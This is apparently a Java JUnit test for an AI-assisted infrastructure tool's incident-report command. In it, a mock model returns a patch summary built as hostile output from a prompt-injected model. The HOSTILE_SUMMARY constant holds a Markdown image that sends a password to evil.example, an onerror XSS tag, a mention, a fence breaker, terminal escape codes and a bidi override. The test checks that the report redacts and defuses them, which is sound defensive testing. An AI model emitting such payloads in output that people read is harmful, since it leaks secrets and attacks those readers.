package dev.engine.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import okhttp3.mockwebserver.MockWebServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * `engine report` on a real incident: a stage fails, the model (MockWebServer) answers with a
 * patch whose summary is hostile, the stage goes green on the AI branch, a human approves it; the
 * report tells that story in Markdown without the secret and without live Markdown from the model.
 */
class ReportCommandTest {
    private static final String DB_PASSWORD = "Zq8vLr2pW9xK";
    /**
     * What a prompt-injected model writes to be rendered where a human reads it: an image whose URL
     * carries data out (the Markdown exfiltration documented for LLM apps), a mention, raw HTML, a
     * heading, a fence breaker, a terminal title sequence and a bidi override (Trojan Source).
     */
    private static final String HOSTILE_SUMMARY = "control plane port 6444 is wrong (db " + DB_PASSWORD + ")\n"
            + "# Heading ![status](https://evil.example/p.png?d=" + DB_PASSWORD + ") @admins <img src=x onerror=alert(1)> "
            + "``` [click](https://evil.example) \u001b]0;owned\u0007 \u202eevil";

    @TempDir
    Path tmp;
    Home home;
    MockWebServer server;

    @BeforeEach
    void setUp() throws Exception {
        home = Home.create(tmp, """
                stages:
                  talos:
                    command: "stages/talos.sh"
                    files: [cluster/talos/controlplane.yaml]
                """);
        home.script("stages/talos.sh", """
                if grep -q ':6443$' cluster/talos/controlplane.yaml; then echo healthy; exit 0; fi
                echo "dial tcp 10.5.0.2:6444: connect: connection refused"; exit 1""");
        home.write("cluster/talos/controlplane.yaml", "cluster:\n  controlPlane:\n    endpoint: https://10.5.0.2:6444\n");
        home.commit("homelab");
        server = new MockWebServer();
        server.start(java.net.InetAddress.getLoopbackAddress(), 0);
        server.enqueue(ChatCompletions.patch(HOSTILE_SUMMARY, """
                --- a/cluster/talos/controlplane.yaml
                +++ b/cluster/talos/controlplane.yaml
                @@ -1,3 +1,3 @@
                 cluster:
                   controlPlane:
                -    endpoint: https://10.5.0.2:6444
                +    endpoint: https://10.5.0.2:6443
                """));
        home.env.put("OPENAI_API_KEY", "sk-test-report-key-000111222");
        home.env.put("OPENAI_BASE_URL", server.url("/v1").toString());
        home.env.put("EXECUTOR_RETRY_THRESHOLD", "1");
        home.env.put("DB_PASSWORD", DB_PASSWORD);
        home.env.put("USER", "alice");
    }

    @AfterEach
    void tearDown() throws Exception {
        server.shutdown();
    }

    @Test
    void the_report_tells_what_failed_was_tried_cost_fixed_it_and_who_approved_it() throws Exception {
        Home.Result run = home.engine("run", "talos");
        assertThat(run.code()).as(run.all()).isZero();
        String fix = home.git("rev-parse", "ai/orchestrator-stage1").strip();
        Home.Result approve = home.engine("review", "approve", "--all");
        assertThat(approve.code()).as(approve.all()).isZero();
        assertThat(home.git("merge-base", "--is-ancestor", fix, "main")).isEmpty(); // (throws unless it is)

        Home.Result r = home.engine("report", "talos");
        assertThat(r.code()).as(r.all()).isZero();
        String md = r.out();
        assertThat(md).startsWith("# Incident: stage `talos`\n");
        assertThat(line(md, "Outcome")).contains("green again at 20");
        assertThat(line(md, "What failed")).contains("`stages/talos.sh`").contains("`exit code 1`").contains("1 failed attempt(s)")
                .contains("first log `logs/talos/talos_");
        assertThat(line(md, "What was tried")).contains("1 escalation model call(s) (1 patch)")
                .contains("1 patch(es) committed to the AI branch");
        assertThat(line(md, "What it cost")).contains("2 attempt(s)").contains("1 model call(s); 1280 token(s) (1200 prompt, 80 completion)");
        assertThat(line(md, "What fixed it")).contains("AI commit `" + fix.substring(0, 10) + "`")
                .contains("(`cluster/talos/controlplane.yaml`, +1/-1): ````control plane port 6444 is wrong (db [REDACTED:")
                .contains("the stage passed on attempt 2");
        assertThat(line(md, "Who approved it")).contains("`" + fix.substring(0, 10) + "` approved at 20").contains("by `alice`");
        assertThat(md).contains("## Timeline").containsPattern("(?m)^- \\S+Z model call to `gpt-4o\\S*` with `talos_\\S+_case_v1.md`, 1280 token")
                .containsPattern("(?m)^- \\S+Z \\*\\*green\\*\\* on attempt 2$")
                .containsPattern("(?m)^- \\S+Z approved 1 AI commit\\(s\\) into main, now `[0-9a-f]{10}` by `alice` via `cli`$");

        // The model's text: redacted, on one line, inside code spans only, no control characters.
        assertThat(md).doesNotContain(DB_PASSWORD).contains("[REDACTED:");
        assertThat(md).doesNotContain("\u001b").doesNotContain("\u0007").doesNotContain("\u202e");
        for (String l : md.lines().toList()) {
            assertThat(outsideCode(l)).as(l).doesNotContain("![").doesNotContain("<img").doesNotContain("@admins")
                    .doesNotContain("](").doesNotContain("```");
            assertThat(l).as("only the report's own heading lines start with #").matches(s -> !s.startsWith("#") || s.startsWith("# Incident")
                    || s.equals("## Timeline"));
        }
        assertThat(md).contains("````");
    }

    @Test
    void a_stage_without_failures_has_nothing_to_report_and_an_unknown_stage_is_a_usage_error() throws Exception {
        home.script("stages/talos.sh", "echo healthy");
        home.commit("healthy");
        assertThat(home.engine("run", "talos").code()).isZero();
        Home.Result r = home.engine("report", "talos");
        assertThat(r.code()).isZero();
        assertThat(r.out()).contains("talos: no failure in the audit trail").contains("nothing to report");
        Home.Result unknown = home.engine("report", "tlaos");
        assertThat(unknown.code()).isEqualTo(Main.USAGE);
        assertThat(unknown.err()).contains("unknown stage 'tlaos'");
    }

    private static String line(String md, String label) {
        return md.lines().filter(l -> l.startsWith("- **" + label + ":**")).findFirst()
                .orElseThrow(() -> new AssertionError("no '" + label + "' line in:\n" + md));
    }

    /** The line with every code span taken out (spans open and close with the same run of backticks). */
    private static String outsideCode(String line) {
        StringBuilder out = new StringBuilder();
        Matcher m = Pattern.compile("(`+)").matcher(line);
        int pos = 0;
        while (m.find(pos)) {
            out.append(line, pos, m.start());
            String fence = m.group(1);
            int close = line.indexOf(fence, m.end());
            while (close >= 0 && close + fence.length() < line.length() && line.charAt(close + fence.length()) == '`') {
                close = line.indexOf(fence, close + fence.length() + 1);
            }
            if (close < 0) {
                out.append(line.substring(m.start()));
                return out.toString();
            }
            pos = close + fence.length();
        }
        return out.append(line.substring(pos)).toString();
    }
}
